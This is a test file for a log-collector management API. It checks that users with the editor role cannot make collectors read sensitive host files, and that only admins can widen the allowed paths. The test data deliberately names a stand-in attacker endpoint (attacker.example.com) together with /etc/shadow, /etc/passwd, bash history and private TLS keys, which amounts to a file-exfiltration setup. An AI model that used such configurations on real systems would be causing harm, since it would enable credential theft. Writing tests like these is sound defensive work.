/**
 * The host-path policy over HTTP (issue 26, finding 8): an editor cannot make
 * collectors read host files outside `sources.hostPaths` or on a deny pattern
 * (a filelog source on /etc/shadow plus an otlphttp destination is a file
 * copy to anywhere), by creating a source, editing one, or overriding its
 * paths on one collector; each refusal is a 400 naming the key, with nothing
 * stored or audited. Only `sources:hostpaths` (admin) widens it.
 */
import { afterAll, beforeAll, describe, expect, test } from "bun:test";
import { ROLES } from "../../server/auth/scopes.ts";
import { startTestServer, tokenWithScopes, type TestServer } from "../harness.ts";
import type { ErrorBody } from "../../server/http/schemas.ts";

let server: TestServer;
let editor: string;

beforeAll(async () => {
  server = await startTestServer();
  editor = await tokenWithScopes(server, [...ROLES.editor], "hostpaths-editor");
});
afterAll(() => server.stop());

/** Everything an edit could have changed: the working tree's sources, activations and pending changes, and the config audit trail. */
async function state(collectorId?: string) {
  const audit = await server.call<{ items: { action: string }[] }>("/audit?limit=500");
  return {
    sources: await server.call("/sources"),
    changes: await server.call("/changes"),
    activations: collectorId ? await server.call(`/collectors/${collectorId}/sources`) : null,
    audit: audit.items.filter((e) => !e.action.startsWith("auth.")).length,
  };
}

async function refusal(path: string, method: string, json: unknown): Promise<ErrorBody["error"]> {
  const res = await server.api(path, { method, json, token: editor });
  const body = (await res.json()) as ErrorBody;
  expect({ status: res.status, code: body.error.code }).toEqual({ status: 400, code: "validation_failed" });
  return body.error;
}

test("roles: only admin holds sources:hostpaths", () => {
  expect(ROLES.admin).toContain("sources:hostpaths");
  expect(ROLES.editor as readonly string[]).not.toContain("sources:hostpaths");
  expect(ROLES.viewer as readonly string[]).not.toContain("sources:hostpaths");
});

describe("an editor", () => {
  test("cannot save a filelog source on /etc/shadow and the Runtime R config; the 400 names config.include[i] and why; nothing changes", async () => {
    await server.call("/destinations", "POST", { name: "exfil", type: "otlphttp", config: { endpoint: "https://attacker.example.com" } });
    const before = await state();
    const error = await refusal("/sources", "POST", {
      name: "grab",
      type: "filelog",
      config: { include: ["/etc/shadow", "/etc/rcfg-runtime/config.rcfg", "/var/log/app/*.log"] },
    });
    expect(error.details.map((d) => d.path)).toEqual(["config.include[0]", "config.include[1]"]);
    expect(error.details[0]!.message).toContain("sources:hostpaths");
    expect(error.details[1]!.message).toContain("sources.hostPaths.allowedPrefixes");
    expect(error.message).toContain("sources:hostpaths");
    // A denied name inside an allowed prefix, and a journal directory elsewhere.
    expect((await refusal("/sources", "POST", { name: "keys", type: "filelog", config: { include: ["/var/log/tls/*.key"] } })).details[0]!.message).toContain(
      "deny pattern",
    );
    expect((await refusal("/sources", "POST", { name: "j", type: "journald", config: { directory: "/root" } })).details.map((d) => d.path)).toEqual([
      "config.directory",
    ]);
    expect(await state()).toEqual(before);
  });

  test("cannot widen a source by editing it, nor by a collector's configOverrides; nothing changes", async () => {
    const create = await server.api("/sources", {
      method: "POST",
      token: editor,
      json: { name: "app", type: "filelog", config: { include: ["/var/log/app/*.log"] } },
    });
    expect(create.status).toBe(201);
    const source = (await create.json()) as { id: string };
    const collector = await server.call<{ id: string }>("/collectors", "POST", { name: "hostpaths-1" });
    await server.call(`/collectors/${collector.id}/sources`, "POST", { sourceId: source.id });
    const before = await state(collector.id);

    const edit = await refusal(`/sources/${source.id}`, "PUT", {
      name: "app",
      type: "filelog",
      config: { include: ["/var/log/app/*.log", "/home/*/.bash_history"] },
    });
    expect(edit.details.map((d) => d.path)).toEqual(["config.include[1]"]);
    const override = await refusal(`/collectors/${collector.id}/sources`, "POST", { sourceId: source.id, configOverrides: { include: ["/etc/shadow"] } });
    expect(override.details.map((d) => d.path)).toEqual(["configOverrides.include[0]"]);
    expect(await state(collector.id)).toEqual(before);

    // Within the prefixes an editor edits and overrides freely.
    expect(
      (
        await server.api(`/collectors/${collector.id}/sources`, {
          method: "POST",
          token: editor,
          json: { sourceId: source.id, configOverrides: { include: ["/opt/app/logs/*.log"] } },
        })
      ).status,
    ).toBe(201);
  });
});

describe("an admin (sources:hostpaths)", () => {
  test("may widen; an editor may then re-save those paths (no widening) but not add another", async () => {
    const created = await server.call<{ id: string }>("/sources", "POST", { name: "rcfg", type: "filelog", config: { include: ["/etc/rcfg-runtime/*.log"] } });
    const rename = await server.api(`/sources/${created.id}`, {
      method: "PUT",
      token: editor,
      json: { name: "rcfg logs", type: "filelog", config: { include: ["/etc/rcfg-runtime/*.log"] } },
    });
    expect(rename.status).toBe(200);
    const before = await state();
    const more = await refusal(`/sources/${created.id}`, "PUT", {
      name: "rcfg logs",
      type: "filelog",
      config: { include: ["/etc/rcfg-runtime/*.log", "/etc/passwd"] },
    });
    expect(more.details.map((d) => d.path)).toEqual(["config.include[1]"]);
    expect(await state()).toEqual(before);
  });
});

describe("OTLP destinations' TLS files", () => {
  test("an editor cannot point ca_file/cert_file/key_file outside the policy, by the destination or a collector's overrides; an admin may", async () => {
    const tls = { ca_file: "/opt/certs/ca.crt", cert_file: "/opt/certs/app.crt", key_file: "/opt/certs/app.der" };
    const create = await server.api("/destinations", {
      method: "POST",
      token: editor,
      json: { name: "mtls", type: "otlp", config: { endpoint: "gw:4317", tls } },
    });
    expect(create.status).toBe(201);
    const destination = (await create.json()) as { id: string };

    const outside = await refusal("/destinations", "POST", {
      name: "host-key",
      type: "otlphttp",
      config: { endpoint: "https://gw.example", tls: { ...tls, key_file: "/etc/ssl/private/host.key" } },
    });
    expect(outside.details.map((d) => d.path)).toEqual(["config.tls.key_file"]);
    expect(outside.details[0]!.message).toContain("sources.hostPaths.allowedPrefixes");
    const denied = await refusal(`/destinations/${destination.id}`, "PUT", {
      name: "mtls",
      type: "otlp",
      config: { endpoint: "gw:4317", tls: { ...tls, key_file: "/opt/certs/app.key" } },
    });
    expect(denied.details[0]!.message).toContain("deny pattern");

    const collector = await server.call<{ id: string }>("/collectors", "POST", { name: "hostpaths-tls" });
    const override = await refusal(`/collectors/${collector.id}/destinations`, "POST", {
      destinationId: destination.id,
      configOverrides: { tls: { ca_file: "/etc/ssl/certs/ca.crt" } },
    });
    expect(override.details.map((d) => d.path)).toEqual(["configOverrides.tls.ca_file"]);

    // The admin (the harness's token) holds sources:hostpaths.
    const admin = await server.api("/destinations", {
      method: "POST",
      json: { name: "host-key", type: "otlp", config: { endpoint: "gw:4317", tls: { ...tls, key_file: "/etc/ssl/private/host.key" } } },
    });
    expect(admin.status).toBe(201);
  });
});

describe("the Kafka source's TLS CA file", () => {
  test("an editor cannot point ca_file outside the policy (400 naming it, nothing stored); inside it, saves", async () => {
    const kafka = (ca_file: string) => ({ name: `kafka ${ca_file}`, type: "kafka", config: { brokers: ["kafka:9093"], tls: { enabled: true, ca_file } } });
    const before = await state();
    expect((await refusal("/sources", "POST", kafka("/etc/shadow"))).details.map((d) => d.path)).toEqual(["config.tls.ca_file"]);
    expect(await state()).toEqual(before);
    expect((await server.api("/sources", { method: "POST", token: editor, json: kafka("/opt/certs/kafka-ca.crt") })).status).toBe(201);
  });
});
